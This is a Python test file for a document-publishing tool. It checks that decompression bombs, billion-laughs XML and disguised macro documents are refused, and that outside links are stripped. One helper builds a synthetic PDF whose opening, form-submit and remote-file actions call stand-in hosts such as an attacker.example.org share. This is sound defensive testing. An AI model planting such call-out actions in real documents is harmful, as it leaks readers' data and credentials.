"""Evidence documents read within bounds, published calling no one (issue 27, rows 1, 2, 4, 5).

Row 1: a DOCX whose one part inflates to gigabytes was accepted by validate, then read whole by
the build (6.3 GB). Row 2: a billion laughs in ``core.xml``: validate accepted, the build
refused. Now both refuse both, with the same located, bilingual error (E323), before inflating.
Row 4: PDF actions that call out on opening (or submit, go to a remote file) and Office links
to outside files that Office fetches by itself were published unchanged; now they are removed
and the clerk is told. Row 5: a macro-enabled document renamed ``.docx`` is refused (E324).

Every hostile file is made at run time by tests/support/bombs.py (SYNTHETIC).
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pikepdf
import pytest

from iltod.evidence import ooxml, scrub
from iltod.evidence.publish import publish
from iltod.load import loader
from iltod.load.attachments import entries
from iltod.untrusted import TooLarge
from tests.support import bombs, documents
from tests.support.images_repo import AGENCY, MEASURE, YEAR, line_of, make_repo

REFUSED = {
    "a part inflating to 600 MiB": (lambda: bombs.inflating_docx(600 << 20), "E323"),
    "a part inflating 1,000-fold": (lambda: bombs.inflating_docx(64 << 20), "E323"),
    "a billion laughs in core.xml": (bombs.laughs_docx, "E323"),
    "a macro-enabled document named .docx": (bombs.macro_docx, "E324"),
}


@pytest.mark.parametrize("case", REFUSED, ids=list(REFUSED))
def test_validate_and_the_build_refuse_the_same_document_the_same_way(
    tmp_path: Path, case: str
) -> None:
    make, code = REFUSED[case]
    root = make_repo(tmp_path / "repo", {"report.docx": make()})
    validated = loader.load(root).report.diagnostics  # what `iltod validate` reports
    assert [(d.code, d.line) for d in validated] == [(code, line_of(root, "report.docx"))]
    assert "мн:" in validated[0].format()
    out = publish(entries(loader.load(root)), root / "site", root / ".cache" / "images")
    assert out.gallery(AGENCY, YEAR, MEASURE) == []
    assert not list((root / "site").rglob("*.docx"))
    # the build's own cleaning refuses it too, before inflating it (it used to read it whole)
    path = root / "attachments" / AGENCY / str(YEAR) / MEASURE / "report.docx"
    with pytest.raises((TooLarge, ooxml.Macros)):
        scrub.cached(path, ".docx", "0" * 64, tmp_path / "cache")


def test_a_docx_fetching_a_picture_from_outside_is_published_without_the_link(
    tmp_path: Path,
) -> None:
    root = make_repo(tmp_path / "repo", {"report.docx": bombs.external_image_docx()})
    out = publish(entries(loader.load(root)), root / "site", root / ".cache" / "images")
    assert out.report.diagnostics == []
    (item,) = out.gallery(AGENCY, YEAR, MEASURE)
    with zipfile.ZipFile(root / "site" / item["href"]) as z:
        everything = "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())
    assert "tracker.example.org" not in everything
    assert 'r:id="rId99"' not in everything
    (note,) = out.notes()
    assert "1 link to outside files that open by themselves (image)" in note


def _pdf_calling_out() -> bytes:
    doc = pikepdf.open(io.BytesIO(documents.pdf()))
    doc.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://t.example.org/o")
    page = doc.pages[0].obj
    page.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="\\\\attacker.example.org\\share\\x.pdf")
    )
    submit = pikepdf.Dictionary(
        S=pikepdf.Name.SubmitForm, F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F="https://s.example")
    )
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 10, 10],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://clicked.example.org/"),
    )
    button = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, Rect=[0, 20, 10, 30], A=submit
    )
    page.Annots.append(doc.make_indirect(link))
    button = doc.make_indirect(button)
    page.Annots.append(button)
    doc.Root.AcroForm = pikepdf.Dictionary(Fields=[button])
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def test_a_pdf_that_calls_out_is_published_without_those_actions(tmp_path: Path) -> None:
    original = _pdf_calling_out()
    root = make_repo(tmp_path / "repo", {"report.pdf": original})
    assert loader.load(root).report.diagnostics == []
    out = publish(entries(loader.load(root)), root / "site", root / ".cache" / "images")
    (item,) = out.gallery(AGENCY, YEAR, MEASURE)
    with pikepdf.open(root / "site" / item["href"]) as pdf:
        text = "".join(repr(o) for o in pdf.objects)
        assert "/OpenAction" not in pdf.Root
        for gone in ("t.example.org", "attacker.example.org", "s.example", "/SubmitForm"):
            assert gone not in text, gone
        assert "clicked.example.org" in text  # a link opens only when the reader clicks it
    (note,) = out.notes()
    assert "3 actions that call outside the file" in note
    assert note.startswith(f"plans/{AGENCY}/{YEAR}.yml:{line_of(root, 'report.pdf')}:")
